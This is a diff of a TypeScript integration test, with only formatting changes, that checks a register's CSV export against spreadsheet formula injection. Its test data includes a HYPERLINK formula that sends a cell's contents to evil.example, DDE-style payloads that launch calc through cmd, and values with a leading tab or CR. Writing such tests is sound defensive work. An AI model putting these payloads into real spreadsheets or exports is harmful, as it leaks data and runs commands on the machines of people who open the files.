@@ -4,7 +4,12 @@ import { Incident } from '../../src/incidents/incident.entity';
 import { sha256Hex } from '../../src/lib/canonical-json';
 import { Organization } from '../../src/organizations/organization.entity';
 import { sirenProblem } from '../../src/organizations/siren';
-import { CreateExposureDocument, CreateIncidentDocument, CreateOrganizationDocument, type CreateOrganizationInput } from '../generated/graphql';
+import {
+  CreateExposureDocument,
+  CreateIncidentDocument,
+  CreateOrganizationDocument,
+  type CreateOrganizationInput,
+} from '../generated/graphql';
 import { dialect, startGateway, type TestGateway } from '../support/app';
 
 /** A valid SIREN (Luhn) starting with `prefix`. */
@@ -56,7 +61,14 @@ function parseLine(line: string): string[] {
  */
 describe(`register CSV formula injection on ${dialect}`, () => {
   let gw: TestGateway;
-  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', '+33 1 23 45 67 89', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+    '+33 1 23 45 67 89',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
   const controllers: { id: string; name: string; title: string }[] = [];
 
   beforeAll(async () => {
@@ -71,11 +83,19 @@ describe(`register CSV formula injection on ${dialect}`, () => {
       // Names and titles with a tab or a CR may be refused at input: those are written as rows
       // stored before that check would be, since the CSV must be safe whatever the database holds.
       const printable = !/^[\t\r]/.test(value);
-      const c = await gw.gql(CreateOrganizationDocument, { input: organization(printable ? name : `Mutuelle ${i}`, siren(`9123010${i}`), ['CONTROLLER']) }, admin);
+      const c = await gw.gql(
+        CreateOrganizationDocument,
+        { input: organization(printable ? name : `Mutuelle ${i}`, siren(`9123010${i}`), ['CONTROLLER']) },
+        admin,
+      );
       const controllerId = c.data!.createOrganization.id;
       const incident = await gw.gql(CreateIncidentDocument, { input: { title: printable ? title : `Fuite ${i}` } }, processor);
       const incidentId = incident.data!.createIncident.id;
-      const exposure = await gw.gql(CreateExposureDocument, { input: { incidentId, controllerId, processorAlertedAt: '2024-02-01T13:00:00Z' } }, admin);
+      const exposure = await gw.gql(
+        CreateExposureDocument,
+        { input: { incidentId, controllerId, processorAlertedAt: '2024-02-01T13:00:00Z' } },
+        admin,
+      );
       expect(exposure.errors).toBeUndefined();
       if (!printable) {
         await em.nativeUpdate(Organization, { id: controllerId }, { legalName: name });
